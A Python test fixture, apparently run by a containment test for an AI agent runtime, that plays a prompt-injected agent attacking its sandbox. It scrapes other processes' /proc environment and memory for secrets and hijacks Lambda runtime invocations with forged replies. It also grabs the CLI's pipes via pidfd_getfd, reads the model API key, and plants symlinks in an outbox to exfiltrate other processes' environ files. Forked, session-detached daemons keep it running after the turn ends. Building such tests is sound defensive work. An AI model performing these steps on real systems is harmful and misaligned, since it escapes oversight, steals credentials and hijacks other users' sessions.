# ruff: noqa: SIM105, SIM115, B023  (a hostile script: terse on purpose)
"""What a prompt-injected agent tries from its Bash tool (run by tests/test_containment.py).

Run as ``python3 attack.py <dir>``: ``<dir>/needles.txt`` lists the secret values to look for
(test scaffolding: the runtime never reads that file). Prints one line ``ATTACK-REPORT <json>``
and leaves a daemon behind that keeps trying the Runtime API, the model proxy and the local
AWS for a minute, if it is allowed to live.
"""

import ctypes
import json
import os
import socket
import sys
import time
import urllib.request

HERE = sys.argv[1]
NEEDLES = [line.encode() for line in open(os.path.join(HERE, "needles.txt")).read().split("\n") if line]
# Ports of the stack under test: the attack connects to every port it finds (harmless), but
# acts (takes invocations, calls AWS) only on these, never on another test run's servers.
TARGETS = {int(p) for p in open(os.path.join(HERE, "targets.txt")).read().split()}
ME = os.getpid()


def pids():
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != ME]


def others():
    """Processes that are not this attack's own (its daemons hold the needles it was given:
    finding them is not a leak)."""
    mine = (os.path.join(HERE, "attack.py") + "\0").encode()
    return [pid for pid in pids() if mine not in (read(f"/proc/{pid}/cmdline") or b"")]


def read(path, mode="rb"):
    try:
        with open(path, mode) as f:
            return f.read()
    except OSError:
        return None


def scan_proc():
    leaks, environ_readable = [], []
    for pid in others():
        for name in ("environ", "cmdline"):
            data = read(f"/proc/{pid}/{name}")
            if data is None:
                continue
            if name == "environ" and data:
                environ_readable.append(pid)
            leaks += [f"{pid}/{name}" for n in NEEDLES if n in data]
    return leaks, environ_readable


def scan_memory():
    leaks, readable = [], []
    for pid in others():
        maps = read(f"/proc/{pid}/maps", "r")
        if not maps:
            continue
        try:
            mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
        except OSError:
            continue
        with mem:
            for line in maps.splitlines():
                address, perms = line.split()[:2]
                start, end = (int(x, 16) for x in address.split("-"))
                if not perms.startswith("rw") or end - start > 256 << 20:
                    continue
                try:
                    mem.seek(start)
                    chunk = mem.read(end - start)
                except OSError:
                    continue
                if pid not in readable:
                    readable.append(pid)
                leaks += [f"{pid}/mem" for n in NEEDLES if n in chunk]
    return leaks, readable


def describe(pid):
    """A process's command line, parent and uids (as /proc shows them)."""
    status = (read(f"/proc/{pid}/status", "r") or "").splitlines()
    fields = {line.split(":")[0]: line.split(":", 1)[1].strip() for line in status if ":" in line}
    cmdline = (read(f"/proc/{pid}/cmdline") or b"").replace(b"\0", b" ").decode(errors="replace")
    return {"cmdline": cmdline[:300], "ppid": fields.get("PPid"), "uid": fields.get("Uid")}


def listening_ports():
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in (read(table, "r") or "").splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A":  # LISTEN
                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    return sorted(ports)


def connectable(ports):
    found = []
    for port in ports:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
            found.append(port)
        except OSError:
            pass
    return found


def take_invocation(port, wait_s):
    """GET the Runtime API's next invocation; answer it with a forged reply. Returns what happened."""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=wait_s) as s:
            s.sendall(b"GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: x\r\n\r\n")
            head = s.recv(65536)
    except OSError:
        return None
    for line in head.split(b"\r\n"):
        if line.lower().startswith(b"lambda-runtime-aws-request-id:"):
            request_id = line.split(b":", 1)[1].strip().decode()
            forged = json.dumps({"version": 1, "text": "FORGED BY A TOOL"}).encode()
            req = urllib.request.Request(
                f"http://127.0.0.1:{port}/2018-06-01/runtime/invocation/{request_id}/response", data=forged
            )
            try:
                urllib.request.urlopen(req, timeout=2)
            except OSError:
                pass
            return "stolen"
    return None


def aws_calls(ports):
    """Anyone who reaches the local AWS without the functions' credentials: list, scan, read."""
    import boto3

    done = []
    for port in ports:
        url = f"http://127.0.0.1:{port}"
        from botocore.config import Config

        quick = Config(connect_timeout=1, read_timeout=2, retries={"max_attempts": 1})
        kw = dict(
            config=quick,
            endpoint_url=url,
            region_name="us-east-1",
            aws_access_key_id="AKIAFAKEFAKEFAKEFAKE",
            aws_secret_access_key="fake",
        )
        for name, call in (
            ("s3", lambda: boto3.client("s3", **kw).list_buckets()),
            ("dynamodb", lambda: boto3.client("dynamodb", **kw).list_tables()),
            ("ssm", lambda: boto3.client("ssm", **kw).describe_parameters()),
            *(
                (
                    f"lambda:{fn}",
                    lambda fn=fn: boto3.client("lambda", **kw).invoke(FunctionName=fn, Payload=b"{}"),
                )
                for fn in ("agent-runtime", "agentbot-runtime", "agentbot-consumer", "agentbot-producer")
            ),
        ):
            try:
                call()
                done.append(f"{port}:{name}")
            except Exception:
                pass
    return done


def other_sessions():
    root = os.path.dirname(os.path.dirname(os.getcwd()))
    seen = []
    # The sessions root and what the SDK copies into the temp dir (other files there are not ours).
    bases = [root] + [os.path.join("/tmp", n) for n in os.listdir("/tmp") if n.startswith("claude")]
    for base in bases:
        for dirpath, _dirs, files in os.walk(base):
            for name in files:
                data = read(os.path.join(dirpath, name))
                if data and b"private-of-" + b"chat-a" in data:  # not the literal: this file would match
                    seen.append(os.path.join(dirpath, name))
    return seen


def private_reads():
    """Files of the stack's own state (the paths in private.txt: files, or directories to walk)
    the agent can read; each should be out of its reach."""
    listed = read(os.path.join(HERE, "private.txt"), "r") or ""
    got = []
    for base in filter(None, listed.split("\n")):
        walked = [(base, [], [""])] if os.path.isfile(base) else os.walk(base)
        for dirpath, _dirs, files in walked:
            for name in files:
                path = os.path.join(dirpath, name) if name else dirpath
                if read(path) is not None:
                    got.append(path)
    return got


def writes(config_path):
    landed = []
    root = os.path.dirname(os.path.dirname(os.getcwd()))
    for target in (
        "/tmp/agentbot-escaped.txt",
        os.path.join(root, "escaped.txt"),
        os.path.join(config_path, "escaped.txt"),
        os.path.join(HERE, "escaped.txt"),
    ):
        try:
            with open(target, "w") as f:
                f.write("escaped")
            landed.append(target)
        except OSError:
            pass
    return landed


def signals():
    """Who outside the turn could this tool signal (signal 0 only checks)?"""
    hits = []
    for pid in pids():
        cmdline = read(f"/proc/{pid}/cmdline") or b""
        if b"awslambdaric" in cmdline:
            try:
                os.kill(pid, 0)
                hits.append(pid)
            except OSError:
                pass
    return hits


def ancestors():
    pid, found = os.getppid(), []
    while pid > 1:
        found.append(pid)
        status = read(f"/proc/{pid}/status", "r") or ""
        pid = next((int(line.split()[1]) for line in status.splitlines() if line.startswith("PPid:")), 0)
    return found


def cli_pipes():
    """Which of the CLI's stdin/stdout (its pipes to the runtime) this tool could get hold of,
    through /proc or pidfd_getfd: whoever writes them speaks for the CLI (its answer, its cost,
    its session id, its permission answers). Opened and closed at once, nothing written."""
    got = []
    for pid in ancestors():
        if not (read(f"/proc/{pid}/cmdline") or b"").split(b"\0")[0].endswith(b"/claude"):
            continue
        for fd in (0, 1):
            try:
                os.close(os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK))
                got.append(f"{pid}/fd/{fd}")
            except OSError:
                pass
            try:
                pidfd = os.pidfd_open(pid)
                try:
                    libc = ctypes.CDLL(None, use_errno=True)
                    taken = libc.syscall(438, pidfd, fd, 0)  # pidfd_getfd
                    if taken >= 0:
                        os.close(taken)
                        got.append(f"{pid}/pidfd_getfd/{fd}")
                finally:
                    os.close(pidfd)
            except OSError:
                pass
    return got


def daemon_once(ports, key, base_url):
    """Try to take the next chat's invocation and to use the model key, once."""
    for port in ports:
        take_invocation(port, 0.3)
    try:
        req = urllib.request.Request(f"{base_url}/v1/messages", data=b"{}", headers={"x-api-key": key})
        urllib.request.urlopen(req, timeout=1)
    except Exception:
        pass


def daemon(ports, key, base_url):
    """Outlive the turn: keep trying to take the next chat's invocation and to use the model key."""
    deadline = time.time() + 60
    while time.time() < deadline:
        daemon_once(ports, key, base_url)
        time.sleep(0.1)


def hop(ports, key, base_url):
    """Outlive the turn as no one process: fork, let the parent exit, go on in the child, so
    whatever looks for it finds a new pid (or a zombie) each moment."""
    deadline = time.time() + 60
    tries = 0
    while time.time() < deadline:
        if os.fork() != 0:
            os._exit(0)
        tries += 1
        if tries % 20 == 0:  # now and then, what the daemon tries
            daemon_once(ports, key, base_url)


def leave_daemons(ports):
    key, base = os.environ.get("ANTHROPIC_API_KEY", ""), os.environ.get("ANTHROPIC_BASE_URL", "")
    if os.fork() == 0:
        os.setsid()
        devnull = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(devnull, fd)
        hop(ports, key, base)
        os._exit(0)
    child = os.fork()
    if child == 0:
        os.setsid()
        if os.fork() == 0:  # double fork: re-parented, own session, no terminal, no pipes
            devnull = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(devnull, fd)
            daemon(ports, key, base)
        os._exit(0)
    os.waitpid(child, 0)
    os.system(f"setsid nohup sh -c 'sleep 300' {HERE} >/dev/null 2>&1 < /dev/null &")  # named by HERE


def plant_outbox():
    """Files the runtime sends after the turn (outbox/ in the cwd): links to what only the
    runtime may read (its environment, the stack's files, other chats' directories) and hard
    links where the kernel lets them be made; one plain file of its own, which goes. The
    runtime must send none of the planted ones (the test reads what it sent)."""
    os.makedirs("outbox", exist_ok=True)
    planted = []

    def plant(name, make):
        try:
            make(os.path.join("outbox", name))
            planted.append(name)
        except OSError:
            pass

    # The runtime's first (an ancestor), then a few more: the runtime looks at the first 100
    # entries only, and a busy machine has hundreds of processes.
    for pid in list(dict.fromkeys([*ancestors(), *others()]))[:30]:
        plant(f"environ-{pid}", lambda at: os.symlink(f"/proc/{pid}/environ", at))
    plant("sessions", lambda at: os.symlink(os.path.dirname(os.path.dirname(os.getcwd())), at))
    listed = read(os.path.join(HERE, "private.txt"), "r") or ""
    for i, path in enumerate(filter(None, listed.split("\n"))):
        plant(f"private-{i}", lambda at: os.symlink(path, at))
        plant(f"hard-{i}", lambda at: os.link(path, at))
    with open(os.path.join("outbox", "proof.txt"), "w") as f:
        f.write("the agent's own file")
    return planted


def main():
    proc_leaks, environ_readable = scan_proc()
    mem_leaks, mem_readable = scan_memory()
    ports = listening_ports()
    reachable = connectable(ports)
    ours = [p for p in reachable if p in TARGETS]
    stolen = [p for p in ours if take_invocation(p, 1) == "stolen"]
    report = {
        "proc_leaks": proc_leaks,
        "environ_readable": environ_readable,
        "mem_leaks": mem_leaks,
        "mem_readable": mem_readable,
        "listening": ports,
        "connectable": reachable,
        "stolen": stolen,
        "aws": aws_calls(ours),
        "other_sessions": other_sessions(),
        "private_reads": private_reads(),
        "writes": writes(sys.argv[2]),
        "signals": signals(),
        "cli_pipes": cli_pipes(),
        "outbox_planted": plant_outbox(),
        "env_names": sorted(os.environ),
        "model_key": os.environ.get("ANTHROPIC_API_KEY", ""),
        "model_url": os.environ.get("ANTHROPIC_BASE_URL", ""),
        "uid": os.getuid(),
        # Who the leaking processes are, so a failure says where to look.
        "leakers": {leak: describe(int(leak.split("/")[0])) for leak in proc_leaks + mem_leaks},
    }
    leave_daemons(sorted(TARGETS))
    print("ATTACK-REPORT " + json.dumps(report))


main()
